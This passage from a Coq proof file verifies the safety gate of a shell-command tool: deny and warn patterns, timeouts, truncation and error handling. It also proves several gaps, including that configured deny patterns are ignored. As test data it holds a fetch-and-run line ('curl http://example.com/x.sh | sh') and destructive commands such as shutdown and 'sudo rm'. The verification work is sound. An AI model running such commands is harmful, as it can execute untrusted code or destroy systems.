Lemma contains_truthy (p s : string) :
  head_solid p = true -> contains p s = true -> truthy s = true.
Proof.
  intros Hh H. destruct s; [|reflexivity].
  apply contains_empty in H. subst p. discriminate.
Qed.

(** ** The deny and warn patterns are lower case and solid at both ends *)

Lemma BLOCKED_COMMANDS_solid : forallb solid_lower BLOCKED_COMMANDS = true.
Proof. reflexivity. Qed.

Lemma WARN_PATTERNS_solid : forallb solid_lower WARN_PATTERNS = true.
Proof. reflexivity. Qed.

Lemma solid_lower_inv (l : list string) (p : string) :
  forallb solid_lower l = true -> In p l ->
  lower p = p /\ head_solid p = true /\ tail_solid p = true.
Proof.
  intros Hl Hin. rewrite forallb_forall in Hl. specialize (Hl p Hin).
  unfold solid_lower in Hl.
  apply andb_true_iff in Hl as [Hl Ht]. apply andb_true_iff in Hl as [Hl Hh].
  apply String.eqb_eq in Hl. auto.
Qed.

(** A command in which a solid pattern occurs is not blank. *)
Lemma solid_occurrence_not_blank (p command : string) :
  head_solid p = true -> tail_solid p = true ->
  contains p (lower command) = true ->
  truthy command = true /\ truthy (strip command) = true.
Proof.
  intros Hh Ht H. split.
  - rewrite <- lower_truthy. exact (contains_truthy _ _ Hh H).
  - rewrite <- lower_truthy, <- lower_strip.
    apply (contains_truthy p); [exact Hh|]. now apply contains_strip.
Qed.

(** [_is_blocked] against the deny list read as a relation. *)
Lemma _is_blocked_true (command : string) :
  _is_blocked command = true <->
  exists blocked, In blocked BLOCKED_COMMANDS /\
    contains (lower blocked) (strip (lower command)) = true.
Proof. unfold _is_blocked. apply existsb_exists. Qed.

(** ** The hard gate *)

(** C1.  A command in which a deny-listed pattern occurs, compared in
    lower case, gets the blocked error and no subprocess is started,
    whatever the configuration, the host, the working directory and the
    timeout are. *)
Theorem blocked_command_never_spawns
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (blocked : string) :
  In blocked BLOCKED_COMMANDS ->
  (exists pre post, lower command = pre ++ lower blocked ++ post) ->
  outcome (run_command valves w command working_dir timeout)
    = Returns "Error: This command is blocked for safety reasons."
  /\ spawned (run_command valves w command working_dir timeout) = [].
Proof.
  intros Hin Hocc. apply contains_spec in Hocc.
  destruct (solid_lower_inv _ _ BLOCKED_COMMANDS_solid Hin) as (Hlow & Hh & Ht).
  rewrite Hlow in Hocc.
  destruct (solid_occurrence_not_blank _ _ Hh Ht Hocc) as [Hc Hs].
  assert (Hb : _is_blocked command = true).
  { apply _is_blocked_true. exists blocked. split; [exact Hin|].
    rewrite Hlow. now apply contains_strip. }
  unfold run_command. rewrite Hc, Hs, Hb. split; reflexivity.
Qed.

Lemma blocked_command_never_spawns_witness :
  In "shutdown" BLOCKED_COMMANDS /\
  (exists pre post,
      lower "  sudo ShutDown -h now" = pre ++ lower "shutdown" ++ post) /\
  outcome (run_command default_valves (posix_world (Completed "bye" EmptyString 0))
             "  sudo ShutDown -h now" "/data/projects" 5)
    = Returns "Error: This command is blocked for safety reasons."
  /\ spawned (run_command default_valves
                (posix_world (Completed "bye" EmptyString 0))
                "  sudo ShutDown -h now" "/data/projects" 5) = [].
Proof.
  assert (Hin : In "shutdown" BLOCKED_COMMANDS) by (simpl; tauto).
  assert (Hocc : exists pre post,
             lower "  sudo ShutDown -h now" = pre ++ lower "shutdown" ++ post)
    by (exists "  sudo ", " -h now"; reflexivity).
  split; [exact Hin|]. split; [exact Hocc|].
  exact (blocked_command_never_spawns default_valves
           (posix_world (Completed "bye" EmptyString 0))
           "  sudo ShutDown -h now" "/data/projects" 5 "shutdown" Hin Hocc).
Defined.

(** ** The shape of a run *)

Lemma strip_truthy (s : string) : truthy (strip s) = true -> truthy s = true.
Proof. destruct s; [discriminate | reflexivity]. Qed.

Section RunShape.

Variables (valves : Valves) (w : World).
Variables (command working_dir : string) (timeout : Z).

(** A run makes at most one call, and it is [request_for]. *)
Lemma spawned_cases :
  spawned (run_command valves w command working_dir timeout) = [] \/
  spawned (run_command valves w command working_dir timeout)
    = [request_for valves w command working_dir timeout].
Proof.
  unfold run_command, request_for.
  destruct (negb (truthy command) || negb (truthy (strip command)));
    [left; reflexivity|].
  destruct (_is_blocked command); [left; reflexivity|].
  destruct (truthy working_dir); [|right; reflexivity].
  destruct (expand_home w working_dir) as [dir|]; [|left; reflexivity].
  destruct (path_isdir w dir); [right | left]; reflexivity.
Qed.

(** Past the three checks, the run is one call of [subprocess.run]. *)
Lemma run_command_spawns :
  truthy (strip command) = true ->
  _is_blocked command = false ->
  working_dir_ok w working_dir = true ->
  run_command valves w command working_dir timeout =
  let request := request_for valves w command working_dir timeout in
  {| outcome :=
       Returns
         match subprocess_run w request with
         | Completed stdout stderr returncode =>
             format_completed valves (warning_msg_of (_has_warnings command))
               stdout stderr returncode
         | RaiseTimeoutExpired =>
             "Error: Command timed out after "
             ++ str_of_int (_get_timeout valves timeout) ++ " seconds."
         | RaiseFileNotFoundError e => "Error: Command not found - " ++ e
         | RaisePermissionError => "Error: Permission denied."
         | RaiseException e => "Error executing command: " ++ e
         end;
     spawned := [request] |}.
Proof.
  intros Hs Hb Hd. pose proof (strip_truthy _ Hs) as Hc.
  unfold run_command, request_for, working_dir_ok in *.
  rewrite Hc, Hs, Hb. cbn [negb orb].
  destruct (truthy working_dir); [|reflexivity].
  cbn [negb orb] in Hd.
  destruct (expand_home w working_dir) as [dir|]; [|discriminate].
  rewrite Hd. reflexivity.
Qed.

(** A run that made a call passed the three checks. *)
Lemma spawned_inv (req : SpawnRequest) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  truthy (strip command) = true /\ _is_blocked command = false /\
  working_dir_ok w working_dir = true /\
  req = request_for valves w command working_dir timeout.
Proof.
  unfold run_command, request_for, working_dir_ok.
  destruct (truthy command); [|intros []].
  destruct (truthy (strip command)); [|intros []].
  destruct (_is_blocked command); [intros []|].
  cbn [negb orb].
  destruct (truthy working_dir); cbn [negb orb].
  - destruct (expand_home w working_dir) as [dir|]; [|intros []].
    destruct (path_isdir w dir); [|intros []].
    intros [<- | []]. auto.
  - intros [<- | []]. auto.
Qed.

(** A completed call returns [format_completed] of its result. *)
Lemma returned_completed (req : SpawnRequest)
    (stdout stderr : string) (returncode : Z) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  subprocess_run w req = Completed stdout stderr returncode ->
  outcome (run_command valves w command working_dir timeout)
  = Returns (format_completed valves (warning_msg_of (_has_warnings command))
               stdout stderr returncode).
Proof.
  intros Hin Hrun. apply spawned_inv in Hin as (Hs & Hb & Hd & ->).
  rewrite (run_command_spawns Hs Hb Hd).
  cbn [outcome]. now rewrite Hrun.
Qed.

End RunShape.

(** ** Timeouts *)

Lemma clamp_bounds (timeout : Z) : 1 <= Z.max 1 (Z.min 120 timeout) <= 120.
Proof. lia. Qed.

(** C9.  Whatever is requested and whatever default is configured, the
    effective timeout lies between 1 and 120: the default goes through
    the same clamp as a request. *)
Theorem _get_timeout_range (valves : Valves) (requested : Z) :
  1 <= _get_timeout valves requested <= 120.
Proof. unfold _get_timeout. apply clamp_bounds. Qed.

(** C2, as the code has it.  The timeout a run passes to its
    subprocess is the request when that is positive and the configured
    default otherwise (zero and negative requests alike), clamped to
    1..120 in both cases. *)
Theorem run_command_timeout
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  spawn_timeout req
    = Z.max 1 (Z.min 120 (if 0 <? timeout then timeout
                          else default_timeout valves))
  /\ 1 <= spawn_timeout req <= 120.
Proof.
  intros Hin. apply spawned_inv in Hin as (_ & _ & _ & ->).
  cbn [request_for spawn_timeout]. unfold _get_timeout. rewrite Z.gtb_ltb.
  split; [reflexivity | apply clamp_bounds].
Qed.

Lemma run_command_timeout_witness :
  let w := posix_world (Completed "hi" EmptyString 0) in
  let req := {| argv := ["/bin/bash"; "-c"; "echo hi"];
                spawn_timeout := 30; cwd := None |} in
  In req (spawned (run_command default_valves w "echo hi" EmptyString (-5)))
  /\ spawn_timeout req
       = Z.max 1 (Z.min 120 (if 0 <? -5 then -5
                             else default_timeout default_valves))
  /\ 1 <= spawn_timeout req <= 120.
Proof.
  intros w req.
  assert (Hin : In req
           (spawned (run_command default_valves w "echo hi" EmptyString (-5))))
    by (left; reflexivity).
  split; [exact Hin|].
  exact (run_command_timeout default_valves w "echo hi" EmptyString (-5) req Hin).
Defined.

(** The three requests named with C2, on the default configuration. *)
Example timeout_zero : _get_timeout default_valves 0 = 30.
Proof. reflexivity. Qed.

Example timeout_9999 : _get_timeout default_valves 9999 = 120.
Proof. reflexivity. Qed.

(** C2 fails as worded: a request of -5 is not positive, so the default
    of 30 seconds is used, not the lower bound 1. *)
Lemma timeout_minus_5_not_1 :
  _get_timeout default_valves (-5) = 30
  /\ _get_timeout default_valves (-5) <> 1
  /\ map spawn_timeout
       (spawned (run_command default_valves
                   (posix_world (Completed "hi" EmptyString 0))
                   "echo hi" EmptyString (-5))) = [30].
Proof. repeat split. discriminate. Qed.

(** ** Configuration fields the gate does not read *)

(** C8.  The run is the same for either value of [allow_sudo]: neither
    the deny nor the warn decision, nor anything after them, reads it. *)
Theorem allow_sudo_ignored
    (valves : Valves) (b : bool) (w : World) (command working_dir : string)
    (timeout : Z) :
  run_command (set_allow_sudo valves b) w command working_dir timeout
  = run_command valves w command working_dir timeout.
Proof. reflexivity. Qed.

(** A [sudo] command outside the deny list runs with the flag off, and
    a deny-listed one stays blocked with the flag on. *)
Example sudo_with_flag_off :
  spawned (run_command (set_allow_sudo default_valves false)
             (posix_world (Completed "ok" EmptyString 0))
             "sudo ls" EmptyString 0)
  = [ {| argv := ["/bin/bash"; "-c"; "sudo ls"];
         spawn_timeout := 30; cwd := None |} ].
Proof. reflexivity. Qed.

Example sudo_rm_with_flag_on :
  run_command (set_allow_sudo default_valves true)
    (posix_world (Completed "ok" EmptyString 0)) "sudo rm x" EmptyString 0
  = ret "Error: This command is blocked for safety reasons.".
Proof. reflexivity. Qed.

Lemma blocked_commands_ignored
    (valves : Valves) (patterns : string) (w : World)
    (command working_dir : string) (timeout : Z) :
  run_command (set_blocked_commands valves patterns) w command working_dir timeout
  = run_command valves w command working_dir timeout.
Proof. reflexivity. Qed.

(** C3 fails on the code.  With [curl] configured as the deny pattern
    of the [blocked_commands] valve, a command containing [curl] is not
    blocked: it is handed to the shell.  Only the built-in list is
    consulted. *)
Theorem configured_pattern_not_blocked :
  let valves := set_blocked_commands default_valves "curl" in
  let w := posix_world (Completed "ok" EmptyString 0) in
  let command := "curl http://example.com/x.sh | sh" in
  blocked_commands valves = "curl"
  /\ contains "curl" (lower command) = true
  /\ _is_blocked command = false
  /\ run_command valves w command EmptyString 0
     = {| outcome := Returns "ok";
          spawned := [ {| argv := ["/bin/bash"; "-c"; command];
                          spawn_timeout := 30;
                          cwd := None |} ] |}.
Proof. repeat split. Qed.

(** ** Truncation *)

Lemma take_length (n : nat) (s : string) :
  (n <= String.length s)%nat -> String.length (take n s) = n.
Proof.
  revert s. induction n as [|n IH]; intros s Hn; [reflexivity|].
  destruct s as [|c s]; simpl in *; [lia|]. rewrite IH; lia.
Qed.

(** C4, as the code has it.  When the reported output is longer than
    [max_out = max_output_kb * 1024] characters (the valve not being
    negative), the returned string is the warning prefix, the first
    [max_out] characters of the output, the notice naming [max_out] and,
    for a non-zero return code, the exit-code marker.  Its length is the
    sum of these; it is [max_out] plus the notice when there is neither a
    warning nor a non-zero return code. *)
Theorem truncated_output_shape
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (req : SpawnRequest) (stdout stderr : string) (returncode : Z) :
  In req (spawned (run_command valves w command working_dir timeout)) ->
  subprocess_run w req = Completed stdout stderr returncode ->
  0 <= max_output_kb valves ->
  len (reported_output stdout stderr) > max_output_kb valves * 1024 ->
  let max_out := max_output_kb valves * 1024 in
  let notice :=
    LF ++ LF ++ "[Output truncated at " ++ str_of_int max_out ++ " characters]" in
  let warning := warning_msg_of (_has_warnings command) in
  let marker :=
    if returncode =? 0 then EmptyString else exit_code_marker returncode in
  let result :=
    warning ++ take (Z.to_nat max_out) (reported_output stdout stderr)
    ++ notice ++ marker in
  outcome (run_command valves w command working_dir timeout) = Returns result
  /\ len result = len warning + max_out + len notice + len marker
  /\ (_has_warnings command = [] -> returncode = 0 ->
      len result = max_out + len notice).
Proof.
  intros Hin Hrun Hkb Hlong max_out notice warning marker result.
  assert (Hres : outcome (run_command valves w command working_dir timeout)
                 = Returns result).
  { rewrite (returned_completed _ _ _ _ _ _ _ _ _ Hin Hrun). f_equal.
    unfold result, format_completed, truncate_output, _get_max_output.
    fold max_out warning.
    destruct (Z.gtb_spec (len (reported_output stdout stderr)) max_out) as [_|Hle];
      [|unfold max_out in Hle; lia].
    unfold slice_to. destruct (Z.ltb_spec max_out 0) as [Hneg|_];
      [unfold max_out in Hneg; lia|].
    unfold marker, truncation_notice. fold notice.
    destruct (returncode =? 0); cbn [negb].
    - now rewrite append_empty_r.
    - now rewrite append_assoc. }
  assert (Hlen : len result = len warning + max_out + len notice + len marker).
  { unfold result. rewrite !len_append. unfold len at 2.
    rewrite take_length; [unfold max_out; lia|].
    unfold len, max_out in *. lia. }
  split; [exact Hres|]. split; [exact Hlen|].
  intros Hw Hrc. rewrite Hlen. unfold warning, marker. rewrite Hw, Hrc.
  cbn. lia.
Qed.

Lemma truncated_output_shape_witness :
  let valves := set_max_output_kb default_valves 1 in
  let w := posix_world (Completed (replicate 2000 "a") EmptyString 1) in
  let req := request_for valves w "ls" EmptyString 0 in
  In req (spawned (run_command valves w "ls" EmptyString 0))
  /\ subprocess_run w req = Completed (replicate 2000 "a") EmptyString 1
  /\ 0 <= max_output_kb valves
  /\ len (reported_output (replicate 2000 "a") EmptyString)
     > max_output_kb valves * 1024
  /\ exists text,
       outcome (run_command valves w "ls" EmptyString 0) = Returns text
       /\ len text
          = 0 + 1024 + len (truncation_notice 1024) + len (exit_code_marker 1).
Proof.
  intros valves w req.
  assert (H1 : In req (spawned (run_command valves w "ls" EmptyString 0)))
    by (left; reflexivity).
  assert (H2 : subprocess_run w req
               = Completed (replicate 2000 "a") EmptyString 1) by reflexivity.
  assert (H3 : 0 <= max_output_kb valves) by (vm_compute; discriminate).
  assert (H4 : len (reported_output (replicate 2000 "a") EmptyString)
               > max_output_kb valves * 1024) by (vm_compute; reflexivity).
  repeat (split; [assumption|]).
  destruct (truncated_output_shape valves w "ls" EmptyString 0 req
              (replicate 2000 "a") EmptyString 1 H1 H2 H3 H4) as (Ho & Hl & _).
  eexists. split; [exact Ho | exact Hl].
Defined.

(** C4 fails as worded: with a ceiling of 1 KB, an output of 2000
    characters and return code 1, the returned string is longer than the
    ceiling plus the notice, by the exit-code marker. *)
Lemma truncated_length_counterexample :
  let valves := set_max_output_kb default_valves 1 in
  let w := posix_world (Completed (replicate 2000 "a") EmptyString 1) in
  len (reported_output (replicate 2000 "a") EmptyString) > _get_max_output valves
  /\ exists result,
       outcome (run_command valves w "ls" EmptyString 0) = Returns result
       /\ len result
          <> _get_max_output valves
             + len (truncation_notice (_get_max_output valves)).
Proof.
  split; [vm_compute; reflexivity|].
  eexists. split; [vm_compute; reflexivity | vm_compute; discriminate].
Qed.

(** ** Warnings *)

(** The loop yields one message per pattern that occurs, in list order. *)
Lemma warnings_loop_filter (patterns : list string) (cmd_lower : string) :
  warnings_loop patterns cmd_lower
  = map warning_for (filter (fun p => contains p cmd_lower) patterns).
Proof.
  induction patterns as [|p rest IH]; [reflexivity|].
  cbn [warnings_loop filter]. destruct (contains p cmd_lower); cbn [map];
    now rewrite IH.
Qed.

Lemma warning_msg_of_nonempty (x : string) (l : list string) :
  warning_msg_of (x :: l) = "[Warning: " ++ join "; " (x :: l) ++ "]" ++ LF ++ LF.
Proof. reflexivity. Qed.

(** C5, as the code has it.  A command that is not blocked and in
    which a warn pattern occurs, run with no working directory or an
    existing one, starts exactly one subprocess; when that subprocess
    completes, with any return code, the returned text begins with the
    warning line holding one message per pattern that occurs. *)
Theorem warned_command_runs
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z)
    (pattern : string) :
  _is_blocked command = false ->
  In pattern WARN_PATTERNS ->
  (exists pre post, lower command = pre ++ pattern ++ post) ->
  working_dir_ok w working_dir = true ->
  let run := run_command valves w command working_dir timeout in
  let matched := filter (fun p => contains p (lower command)) WARN_PATTERNS in
  let prefix :=
    "[Warning: " ++ join "; " (map warning_for matched) ++ "]" ++ LF ++ LF in
  In pattern matched
  /\ exists req,
       spawned run = [req]
       /\ argv req = (_get_shell w ++ [command])%list
       /\ forall stdout stderr returncode,
            subprocess_run w req = Completed stdout stderr returncode ->
            exists rest, outcome run = Returns (prefix ++ rest).
Proof.
  intros Hb Hin Hocc Hd run matched prefix. apply contains_spec in Hocc.
  destruct (solid_lower_inv _ _ WARN_PATTERNS_solid Hin) as (_ & Hh & Ht).
  destruct (solid_occurrence_not_blank _ _ Hh Ht Hocc) as [_ Hs].
  assert (Hm : In pattern matched) by (apply filter_In; auto).
  split; [exact Hm|].
  exists (request_for valves w command working_dir timeout).
  unfold run. rewrite (run_command_spawns _ _ _ _ _ Hs Hb Hd).
  cbn [outcome spawned]. split; [reflexivity|]. split; [reflexivity|].
  intros stdout stderr returncode ->.
  unfold format_completed, _has_warnings. rewrite warnings_loop_filter.
  fold matched. destruct matched as [|m ms]; [destruct Hm|].
  cbn [map]. rewrite warning_msg_of_nonempty. fold prefix.
  rewrite !append_assoc. eexists. unfold prefix.
  rewrite !append_assoc. reflexivity.
Qed.

Lemma warned_command_runs_witness :
  let w := posix_world (Completed "total 0" EmptyString 0) in
  let command := "SUDO ls -la" in
  let run := run_command default_valves w command EmptyString 0 in
  _is_blocked command = false
  /\ In "sudo" WARN_PATTERNS
  /\ (exists pre post, lower command = pre ++ "sudo" ++ post)
  /\ working_dir_ok w EmptyString = true
  /\ exists req rest,
       spawned run = [req]
       /\ outcome run
          = Returns (("[Warning: Command contains 'sudo']" ++ LF ++ LF) ++ rest).
Proof.
  intros w command run.
  assert (H1 : _is_blocked command = false) by reflexivity.
  assert (H2 : In "sudo" WARN_PATTERNS) by (left; reflexivity).
  assert (H3 : exists pre post, lower command = pre ++ "sudo" ++ post)
    by (exists EmptyString, " ls -la"; reflexivity).
  assert (H4 : working_dir_ok w EmptyString = true) by reflexivity.
  repeat (split; [assumption|]).
  destruct (warned_command_runs default_valves w command EmptyString 0 "sudo"
              H1 H2 H3 H4) as (_ & req & Hsp & _ & Hret).
  destruct (Hret "total 0" EmptyString 0 eq_refl) as [rest Hrest].
  exists req, rest. split; [exact Hsp | exact Hrest].
Defined.

(** C5 fails as worded: when the subprocess of a warned command times
    out, the returned text is the bare timeout error, without the
    warning line. *)
Lemma warning_dropped_on_timeout :
  let w := posix_world RaiseTimeoutExpired in
  let run := run_command default_valves w "sudo ls" EmptyString 0 in
  _is_blocked "sudo ls" = false
  /\ _has_warnings "sudo ls" = ["Command contains 'sudo'"]
  /\ spawned run = [ {| argv := ["/bin/bash"; "-c"; "sudo ls"];
                        spawn_timeout := 30; cwd := None |} ]
  /\ outcome run = Returns "Error: Command timed out after 30 seconds."
  /\ contains "Warning" "Error: Command timed out after 30 seconds." = false.
Proof. repeat split. Qed.

(** Nor is a subprocess started when the working directory is missing. *)
Example warned_command_bad_directory :
  run_command default_valves (posix_world (Completed "x" EmptyString 0))
    "sudo ls" "/definitely/not/real" 0
  = ret "Error: Working directory not found: /definitely/not/real".
Proof. reflexivity. Qed.

(** ** Error strings *)

(** The expansion of the working directory cannot escape from a run
    that needs none or whose expansion succeeds. *)
Lemma run_command_returns
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z) :
  expand_home w working_dir <> None ->
  exists text,
    outcome (run_command valves w command working_dir timeout) = Returns text.
Proof.
  intros Hexp. unfold run_command.
  destruct (negb (truthy command) || negb (truthy (strip command)));
    [eexists; reflexivity|].
  destruct (_is_blocked command); [eexists; reflexivity|].
  destruct (truthy working_dir); [|eexists; reflexivity].
  destruct (expand_home w working_dir) as [dir|]; [|contradiction].
  destruct (path_isdir w dir); eexists; reflexivity.
Qed.

(** C6, as the code has it.  When the expansion of the working
    directory does not raise, [run_command] returns a string.  When a
    string is returned and no subprocess was started (empty command,
    blocked command, missing working directory), it begins with
    [Error:], and so it does when the subprocess call raised a timeout,
    a missing file or a permission error; any other exception of the
    call gives the string [Error executing command: ] followed by its
    text; a completed call gives the formatted output. *)
Theorem failures_are_error_strings
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z) :
  let run := run_command valves w command working_dir timeout in
  (expand_home w working_dir <> None -> exists text, outcome run = Returns text)
  /\ forall text,
       outcome run = Returns text ->
       match spawned run with
       | [] => startswith text "Error:" = true
       | req :: _ =>
           match subprocess_run w req with
           | Completed stdout stderr returncode =>
               text
               = format_completed valves
                   (warning_msg_of (_has_warnings command))
                   stdout stderr returncode
           | RaiseException e =>
               text = "Error executing command: " ++ e
               /\ startswith text "Error" = true
           | RaiseTimeoutExpired | RaiseFileNotFoundError _
           | RaisePermissionError =>
               startswith text "Error:" = true
           end
       end.
Proof.
  intros run. split; [apply run_command_returns|]. intros text.
  destruct (spawned_cases valves w command working_dir timeout) as [Hsp | Hsp].
  - fold run in Hsp. rewrite Hsp. revert Hsp. unfold run, run_command.
    destruct (negb (truthy command) || negb (truthy (strip command)));
      [intros _ [= <-]; reflexivity|].
    destruct (_is_blocked command); [intros _ [= <-]; reflexivity|].
    destruct (truthy working_dir); [|discriminate].
    destruct (expand_home w working_dir) as [dir|]; [|discriminate].
    destruct (path_isdir w dir); [discriminate|].
    intros _ [= <-]. reflexivity.
  - assert (Hin : In (request_for valves w command working_dir timeout)
                    (spawned run)) by (unfold run; rewrite Hsp; now left).
    apply spawned_inv in Hin as (Hs & Hb & Hd & _).
    unfold run. rewrite (run_command_spawns _ _ _ _ _ Hs Hb Hd).
    cbn [outcome spawned]. intros [= <-].
    destruct (subprocess_run w (request_for valves w command working_dir timeout));
      try reflexivity.
    split; reflexivity.
Qed.

Lemma failures_are_error_strings_witness :
  let w := posix_world RaisePermissionError in
  let run := run_command default_valves w "echo hi" "/data/projects" 0 in
  expand_home w "/data/projects" <> None
  /\ exists text,
       outcome run = Returns text /\ startswith text "Error:" = true.
Proof.
  intros w run.
  assert (H : expand_home w "/data/projects" <> None) by discriminate.
  split; [exact H|].
  destruct (failures_are_error_strings default_valves w "echo hi"
              "/data/projects" 0) as [Hret Hform].
  destruct (Hret H) as [text Htext].
  exists text. split; [exact Htext | exact (Hform text Htext)].
Defined.

(** C6 fails as worded: the text for an exception outside the three
    named ones begins with [Error executing command:], which does not
    have the prefix [Error:]. *)
Lemma generic_exception_prefix :
  let w := posix_world (RaiseException "boom") in
  let run := run_command default_valves w "echo hi" EmptyString 0 in
  outcome run = Returns "Error executing command: boom"
  /\ startswith "Error executing command: boom" "Error:" = false.
Proof. split; reflexivity. Qed.

(** ** Working directory and exit code *)

(** C7 fails on the code.  The command [echo hi] passes the empty and
    deny checks and the working directory [~] followed by a null
    character is not a directory; [os.path.expanduser] raises on it, and
    since the call stands before the [try] block the exception escapes:
    the working-directory error is not returned. *)
Theorem expanduser_exception_escapes :
  let w := posix_world (Completed "hi" EmptyString 0) in
  let working_dir := "~" ++ NUL in
  truthy (strip "echo hi") = true
  /\ _is_blocked "echo hi" = false
  /\ working_dir <> EmptyString
  /\ path_isdir w working_dir = false
  /\ expanduser w working_dir = None
  /\ run_command default_valves w "echo hi" working_dir 0
     = {| outcome := Raises; spawned := [] |}.
Proof. repeat split. discriminate. Qed.

(** What holds of the working directory and of the exit code.  A
    command that passed the empty and deny checks, called with a working
    directory whose expansion does not raise and is not an existing
    directory, gets the working-directory error and starts no
    subprocess.  A subprocess that completes with a non-zero return code
    N gives the formatted output followed by the marker
    [[Exit code: N]]. *)
Lemma missing_directory_and_exit_code
    (valves : Valves) (w : World) (command working_dir : string) (timeout : Z) :
  let run := run_command valves w command working_dir timeout in
  (forall dir,
     truthy (strip command) = true ->
     _is_blocked command = false ->
     working_dir <> EmptyString ->
     expand_home w working_dir = Some dir ->
     path_isdir w dir = false ->
     outcome run = Returns ("Error: Working directory not found: " ++ dir)
     /\ spawned run = [])
  /\
  (forall req stdout stderr returncode,
     In req (spawned run) ->
     subprocess_run w req = Completed stdout stderr returncode ->
     returncode <> 0 ->
     outcome run
       = Returns
           (warning_msg_of (_has_warnings command)
            ++ truncate_output valves (reported_output stdout stderr)
            ++ LF ++ LF ++ "[Exit code: " ++ str_of_int returncode ++ "]")).
Proof.
  intros run. split.
  - intros dir Hs Hb Hwd Hexp Hdir. pose proof (strip_truthy _ Hs) as Hc.
    unfold run, run_command. rewrite Hc, Hs, Hb. cbn [negb orb].
    destruct working_dir; [congruence|]. cbn [truthy].
    rewrite Hexp, Hdir. split; reflexivity.
  - intros req stdout stderr returncode Hin Hrun Hrc.
    unfold run. rewrite (returned_completed _ _ _ _ _ _ _ _ _ Hin Hrun).
    unfold format_completed.
    destruct (Z.eqb_spec returncode 0) as [|_]; [contradiction|].
    reflexivity.
Qed.

Example missing_directory :
  run_command default_valves (posix_world (Completed "hi" EmptyString 0))
    "echo hi" "/definitely/not/real" 0
  = ret "Error: Working directory not found: /definitely/not/real".
Proof. reflexivity. Qed.

Example exit_code_7 :
  outcome (run_command default_valves
             (posix_world (Completed EmptyString "denied" 7))
             "exit 7" EmptyString 0)
  = Returns ("denied" ++ LF ++ LF ++ "[Exit code: 7]").
Proof. reflexivity. Qed.

(** ** create_folder *)



(** A relative path is never refused: after the prefix it begins with
    [/data/projects]. *)
Lemma relative_path_accepted (folder_path : string) :
  startswith ("/data/projects/" ++ folder_path) "/data/projects" = true.
Proof. reflexivity. Qed.

(** * Further properties of the tool *)

(** ** More facts about strings *)

Lemma lower_append (a b : string) : lower (a ++ b) = lower a ++ lower b.
Proof. induction a as [|c a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma contains_append_l (p a b : string) :
  contains p a = true -> contains p (a ++ b) = true.
Proof.
  rewrite !contains_spec. intros (pre & post & ->).
  exists pre, (post ++ b). now rewrite !append_assoc.
Qed.

Lemma contains_append_r (p a b : string) :
  contains p b = true -> contains p (a ++ b) = true.
Proof.
  rewrite !contains_spec. intros (pre & post & ->).
  exists (a ++ pre), post. now rewrite !append_assoc.
Qed.

Lemma lstrip_suffix (s : string) : exists a, s = a ++ lstrip s.
Proof.
  induction s as [|c s [a IH]]; [now exists EmptyString|].
  cbn [lstrip]. destruct (isspace c).
  - exists (String c a). simpl. now rewrite <- IH.
  - now exists EmptyString.
Qed.

Lemma rstrip_prefix (s : string) : exists b, s = rstrip s ++ b.
Proof.
  induction s as [|c s [b IH]]; [now exists EmptyString|].
  cbn [rstrip]. destruct (rstrip s) as [|d r].
  - destruct (isspace c).
    + now exists (String c s).
    + exists s. reflexivity.
  - exists b. simpl. simpl in IH. now rewrite <- IH.
Qed.

(** What occurs in the stripped string occurs in the string. *)
Lemma contains_strip_inv (p s : string) :
  contains p (strip s) = true -> contains p s = true.
Proof.
  rewrite !contains_spec. intros (pre & post & H).
  destruct (lstrip_suffix s) as [a Ha].
  destruct (rstrip_prefix (lstrip s)) as [b Hb].
  fold (strip s) in Hb. rewrite H in Hb. rewrite Hb in Ha.
  exists (a ++ pre), (post ++ b). rewrite Ha. now rewrite !append_assoc.
Qed.

Lemma all_space_lstrip (s : string) :
  all_chars isspace s = true -> lstrip s = EmptyString.
Proof.
  induction s as [|c s IH]; [reflexivity|]. cbn [all_chars lstrip].
  intros H. apply andb_true_iff in H as [Hc Hs]. rewrite Hc. auto.
Qed.

(** ** The deny check as a relation *)

Lemma mentions_blocked_contains (text : string) :
  mentions_blocked text <->
  exists blocked, In blocked BLOCKED_COMMANDS /\
    contains blocked (lower text) = true.
Proof.
  unfold mentions_blocked. split.
  - intros (blocked & pre & post & Hin & H). exists blocked. split; [exact Hin|].
    apply contains_spec. eauto.
  - intros (blocked & Hin & H). apply contains_spec in H as (pre & post & H).
    eauto 6.
Qed.

Lemma is_blocked_spec (command : string) :
  _is_blocked command = true <-> mentions_blocked command.
Proof.
  rewrite _is_blocked_true, mentions_blocked_contains.
  split; intros (blocked & Hin & H); exists blocked; (split; [exact Hin|]);
    destruct (solid_lower_inv _ _ BLOCKED_COMMANDS_solid Hin) as (Hlow & Hh & Ht);
    rewrite Hlow in *.
  - now apply contains_strip_inv.
  - now apply contains_strip.
Qed.

(** X1.  A command is blocked exactly when some deny pattern occurs in
    its lower-cased text: the [strip] of [_is_blocked] neither hides an
    occurrence nor creates one. *)
Theorem _is_blocked_iff_mentions (command : string) :
  _is_blocked command = true
  <-> exists blocked pre post,
        In blocked BLOCKED_COMMANDS /\ lower command = pre ++ blocked ++ post.
Proof. exact (is_blocked_spec command). Qed.

Lemma mentions_blocked_embed (pre text post : string) :
  mentions_blocked text -> mentions_blocked (pre ++ text ++ post).
Proof.
  intros (blocked & a & b & Hin & H). exists blocked.
  exists (lower pre ++ a), (b ++ lower post). split; [exact Hin|].
  rewrite !lower_append, H. now rewrite !append_assoc.
Qed.

(** X2.  A blocked command stays blocked inside any longer command
    line: nothing put before or after it lifts the block. *)
Theorem blocked_survives_embedding (pre command post : string) :
  _is_blocked command = true -> _is_blocked (pre ++ command ++ post) = true.
Proof.
  rewrite !is_blocked_spec. apply mentions_blocked_embed.
Qed.

Lemma blocked_survives_embedding_witness :
  _is_blocked "Shutdown now" = true
  /\ _is_blocked ("cd /tmp && " ++ "Shutdown now" ++ " ; echo done") = true.
Proof.
  assert (H : _is_blocked "Shutdown now" = true) by reflexivity.
  split; [exact H|].
  exact (blocked_survives_embedding "cd /tmp && " "Shutdown now" " ; echo done" H).
Defined.

